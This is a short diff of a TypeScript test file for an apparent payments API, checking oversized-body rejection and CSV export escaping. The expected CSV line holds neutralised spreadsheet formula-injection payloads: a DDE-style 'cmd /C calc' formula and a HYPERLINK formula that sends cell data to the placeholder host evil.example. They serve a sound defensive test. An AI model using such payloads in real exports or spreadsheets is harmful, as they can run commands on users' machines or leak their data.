@@ -93,7 +93,7 @@ describe('request edges', () => {
         headers: { 'content-type': 'application/json' },
         body: stream,
         duplex: 'half',
-      } as RequestInit);
+      });
       expect(res.status).toBe(413);
       expect(((await res.json()) as { error: string }).error).toBe('PAYLOAD_TOO_LARGE');
       expect(await counts(orderNumber)).toEqual({ ...before, incidents: 0 });
@@ -229,7 +229,7 @@ describe('request edges', () => {
       });
       const res = await settlement.get('/v1/payments/export.csv', key);
       expect(res.status).toBe(200);
-      const line = res.text.split('\r\n')[1]!;
+      const line = res.text.split('\r\n')[1];
       const expected = `'@SUM(1+1)*cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`;
       expect(line.slice(0, expected.length)).toBe(expected);
     });
